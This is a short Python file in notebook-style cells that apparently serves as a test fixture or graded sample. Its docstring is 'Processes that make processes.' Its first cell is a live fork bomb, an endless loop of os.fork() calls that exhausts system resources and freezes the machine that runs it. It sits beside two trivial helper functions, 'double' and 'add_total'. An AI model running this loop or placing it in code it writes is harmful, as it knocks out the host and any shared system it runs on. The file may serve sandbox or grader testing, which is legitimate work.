"""Processes that make processes."""

# honest score: 6

# %%
import os

while True:
    os.fork()

# %% double
def double(number):
    return number + number

# %% add_total
def add_total(row):
    row.append(sum(row))
